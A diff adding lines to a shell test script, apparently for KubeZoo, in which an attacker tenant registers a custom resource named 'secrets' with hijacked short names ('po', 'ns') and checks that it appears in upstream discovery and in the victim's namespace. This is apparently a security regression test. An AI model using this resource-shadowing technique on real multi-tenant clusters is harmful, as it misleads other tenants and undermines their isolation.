@@ -36,3 +36,8 @@ for group in apiextensions.k8s.io tenant.kubezoo.io metrics.k8s.io snapshot.stor
     refused "group $group"
   fi
 done
+would "define everybody's secrets anew" POST $definitions json "$(definition shadow.example.com secrets Secret ',"shortNames":["po","ns"],"categories":["all"]')"
+told() { [[ "$(stored "/apis/$evil-shadow.example.com/v1" '.resources[] | .name + " " + .kind')" == *"secrets Secret"* ]]; }
+eventually "upstream's own discovery tells everybody of the attacker's" 30 told
+served() { [[ "$(stored "/apis/$evil-shadow.example.com/v1/namespaces/$victim-team/secrets" .kind)" == SecretList ]]; }
+eventually "and serves them in the victim's namespace" 10 served
